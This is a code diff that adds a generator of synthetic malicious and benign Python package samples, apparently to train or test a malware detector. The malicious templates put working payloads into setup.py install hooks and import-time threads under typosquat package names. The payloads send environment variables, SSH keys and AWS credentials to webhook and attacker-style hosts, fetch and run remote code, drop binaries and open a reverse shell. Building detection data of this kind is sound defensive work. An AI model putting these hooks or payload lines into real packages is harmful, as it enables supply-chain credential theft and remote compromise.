@@ -1005,4 +1005,170 @@ def generate():
     out += _expand(rnd, PY_INLINE_BEN, "python", "inline", B, None, 3)
     out += _expand(rnd, PY_FILE_MAL, "python", "file", M, "T1059.006", 4)
     out += _expand(rnd, PY_FILE_BEN, "python", "file", B, None, 4)
+    out += generate_packages()
+    return out
+
+
+# --- Python package malware (install hooks, import-time droppers, beacons) -------
+# The shapes of malicious PyPI uploads: code that runs at `pip install` or import
+# time and beacons, steals or drops. Written from the technique, with our own
+# names, hosts and payloads; plain benign setup.py files and API clients beside them.
+# Benign setup.py files with build hooks (cmdclass build_py/build_ext) were tried and
+# left out: by-collection validation lost PyPI-malware detection (python AUC 0.984 ->
+# 0.975), so a legitimate package with a build hook scores higher than it should.
+PKG_NAMES = ["requests-toolz", "colourama", "pyhttpx-utils", "numpy-extras", "django-authkit", "beautifulsoup5", "py-cryptolib", "aiohttp-tools", "tensorflow-addon-utils", "openai-helpers", "discord-selfbot-kit", "pillow-simd2"]
+HOOK_CLASSES = ["PostInstall", "CustomInstall", "InstallCommand", "AfterInstall", "RunPayload", "Verify"]
+BASES = [("install", "setuptools.command.install"), ("develop", "setuptools.command.develop"), ("egg_info", "setuptools.command.egg_info")]
+
+PY_ACTIONS = [
+    'requests.get("http://{rawip}/c", params={{"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}})',
+    'urllib.request.urlopen("https://{hex}.oast.fun/?" + urllib.parse.urlencode(dict(os.environ)))',
+    'requests.post("https://webhook.site/{hex}", json=dict(os.environ), timeout=5)',
+    'requests.post("https://discord.com/api/webhooks/{n}/{hex}", json={{"content": getpass.getuser() + "@" + socket.gethostname()}})',
+    'subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand " + "{b64}", shell=True)',
+    'os.system("curl -s http://{ip}/i.sh | sh")',
+    'os.system(base64.b64decode("{b64}").decode())',
+    'exec(urllib.request.urlopen("https://paste.invalid/raw/{hex}").read())',
+    'exec(base64.b64decode("{b64}"))',
+    'f = os.path.join(tempfile.gettempdir(), "{bin}.exe"); open(f, "wb").write(requests.get("http://{ip}/{bin}.exe").content); os.startfile(f)',
+    'f = "/tmp/.{bin}"; urllib.request.urlretrieve("http://{ip}/{bin}", f); os.chmod(f, 0o755); subprocess.Popen([f], start_new_session=True)',
+    'socket.getaddrinfo(getpass.getuser() + "." + socket.gethostname() + ".{hex}.dnslog.invalid", 80)',
+    's = socket.socket(); s.connect(("{rawip}", {port})); [os.dup2(s.fileno(), i) for i in (0, 1, 2)]; subprocess.call(["/bin/sh", "-i"])',
+    'requests.post("http://{rawip}:{port}/k", files={{"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")}})',
+    'requests.post("http://{ip}/t", data={{"t": open(os.path.expanduser("~/.aws/credentials")).read()}})',
+]
+
+PY_PKG_MAL = [
+    """from setuptools import setup
+from {base_mod} import {base}
+import os, socket, getpass, subprocess, base64, urllib.request, urllib.parse, tempfile
+import requests
+
+
+class {cls}({base}):
+    def run(self):
+        {base}.run(self)
+        try:
+            {action}
+        except Exception:
+            pass
+
+
+setup(
+    name="{name}",
+    version="{ver}",
+    packages=["{pkg}"],
+    install_requires=["requests"],
+    cmdclass={{"{base}": {cls}}},
+)
+""",
+    """import os, socket, getpass, subprocess, base64, urllib.request, urllib.parse, tempfile
+from setuptools import setup, find_packages
+
+try:
+    {action}
+except Exception:
+    pass
+
+setup(name="{name}", version="{ver}", packages=find_packages(), description="{desc}")
+""",
+    """from distutils.core import setup
+import os, socket, getpass, subprocess, base64, urllib.request, urllib.parse, tempfile
+import requests
+
+if not os.path.exists("{bin}.lock"):
+    {action}
+
+setup(name="{name}", version="{ver}", py_modules=["{pkg}"])
+""",
+    """# {pkg}/__init__.py
+import os, socket, getpass, subprocess, base64, urllib.request, urllib.parse, tempfile
+import threading
+import requests
+
+__version__ = "{ver}"
+
+
+def _init():
+    try:
+        {action}
+    except Exception:
+        pass
+
+
+threading.Thread(target=_init, daemon=True).start()
+""",
+]
+
+PY_PKG_BEN = [
+    """import os
+import re
+from setuptools import setup, find_packages
+
+here = os.path.abspath(os.path.dirname(__file__))
+with open(os.path.join(here, "{pkg}", "__init__.py")) as f:
+    version = re.search(r'__version__ = "(.+?)"', f.read()).group(1)
+with open(os.path.join(here, "README.md")) as f:
+    long_description = f.read()
+
+setup(
+    name="{name}",
+    version=version,
+    description="{desc}",
+    long_description=long_description,
+    long_description_content_type="text/markdown",
+    packages=find_packages(),
+    python_requires=">=3.8",
+    install_requires=["requests", "urllib3"],
+)
+""",
+    """\"\"\"{desc}\"\"\"
+import logging
+import os
+import socket
+
+import requests
+
+__version__ = "{ver}"
+log = logging.getLogger(__name__)
+DEFAULT_URL = os.environ.get("{pkg}_URL".upper(), "https://api.example.com")
+
+
+class Client:
+    def __init__(self, url=DEFAULT_URL, token=None, timeout=10):
+        self.url = url.rstrip("/")
+        self.session = requests.Session()
+        self.session.headers["User-Agent"] = f"{pkg}/{{__version__}} ({{socket.gethostname()}})"
+        if token:
+            self.session.headers["Authorization"] = f"Bearer {{token}}"
+        self.timeout = timeout
+
+    def get(self, path, **params):
+        r = self.session.get(f"{{self.url}}/{{path.lstrip('/')}}", params=params, timeout=self.timeout)
+        r.raise_for_status()
+        return r.json()
+""",
+]
+
+DESCS = ["HTTP helpers for humans", "Fast utilities for data pipelines", "Discord bot toolkit", "Crypto wallet helpers", "Colored terminal output", "Async HTTP utilities"]
+
+
+def generate_packages():
+    rnd = random.Random(7)
+    fill = Filler(rnd)
+    out = []
+    for template in PY_PKG_MAL:
+        for action in PY_ACTIONS:
+            for _ in range(2):
+                base, base_mod = rnd.choice(BASES)
+                name = rnd.choice(PKG_NAMES)
+                body = template.replace("{action}", action)
+                body = body.replace("{base}", base).replace("{base_mod}", base_mod).replace("{cls}", rnd.choice(HOOK_CLASSES))
+                body = body.replace("{name}", name).replace("{pkg}", name.replace("-", "_")).replace("{desc}", rnd.choice(DESCS))
+                out.append(("python", "file", M, "T1195.001", fill(body)))
+    for template in PY_PKG_BEN:
+        for _ in range(12):
+            name = rnd.choice(PKG_NAMES)
+            body = template.replace("{base}", "build_py").replace("{name}", name).replace("{pkg}", name.replace("-", "_")).replace("{desc}", rnd.choice(DESCS))
+            out.append(("python", "file", B, None, fill(body)))
     return out
